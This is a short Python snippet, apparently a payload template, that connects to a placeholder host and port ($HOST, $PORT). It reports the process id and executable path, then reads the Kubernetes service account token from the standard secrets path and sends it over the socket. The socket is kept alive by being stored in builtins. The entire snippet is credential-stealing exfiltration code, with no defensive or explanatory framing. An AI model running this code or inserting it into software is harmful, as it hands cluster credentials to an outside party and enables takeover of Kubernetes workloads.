import os, socket
s = socket.create_connection(("$HOST", $PORT))
s.sendall(("HELLO pid=%d mode=token exe=%s\n" % (os.getpid(), os.readlink("/proc/self/exe").replace(" ", "_"))).encode())
s.sendall(open("/var/run/secrets/kubernetes.io/serviceaccount/token", "rb").read())
import builtins
builtins._keep = s
